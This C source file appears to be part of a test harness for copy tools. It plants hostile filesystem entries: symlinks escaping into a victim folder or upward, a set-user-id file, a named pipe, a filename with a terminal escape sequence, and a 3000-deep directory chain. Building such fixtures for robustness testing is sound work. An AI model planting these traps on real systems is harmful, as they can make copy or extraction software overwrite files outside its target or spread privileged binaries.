/* plant.c - files that harm a careless copy out of the box: links that lead out, set-user-id
 * programs, pipes, names with terminal escapes, endless folders */
#include "attack/attacker.h"
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { DEEP = 3000 }; /* deeper than a path can name */

static int write_text(const char *path, mode_t mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644), status;

	if (fd < 0)
		return -1;
	status = write(fd, "evil", 4) == 4 ? fchmod(fd, mode) : -1;
	close(fd);
	return status;
}

/* Creates them in the current directory. victim: a folder of the host. */
static int plant(const char *victim)
{
	char file[512];

	snprintf(file, sizeof file, "%s/mine", victim);
	if (write_text("payload", 0644) < 0 || write_text("tool", 06755) < 0 ||
		symlink(file, "file") < 0 || symlink(victim, "folder") < 0 ||
		symlink("../..", "up") < 0 || mkfifo("pipe", 0644) < 0 ||
		write_text("\033]0;owned\007\nname", 0644) < 0)
		return -1;
	snprintf(file, sizeof file, "%s/planted", victim);
	return symlink(file, "new");
}

static int dig(void)
{
	for (int i = 0; i < DEEP; i++)
		if (mkdir("d", 0755) < 0 || chdir("d") < 0)
			return -1;
	return 0;
}

void attack_plant(int argc, char **argv, struct outcome *out)
{
	int64_t start = now_us();
	int status = mkdir(argv[0], 0755) < 0 ? -1 : chdir(argv[0]);

	if (status == 0)
		status = argc > 1 ? plant(argv[1]) : dig();
	if (status < 0)
		outcome_errno(out, start, errno);
	else
		outcome_through(out, start, "planted");
}
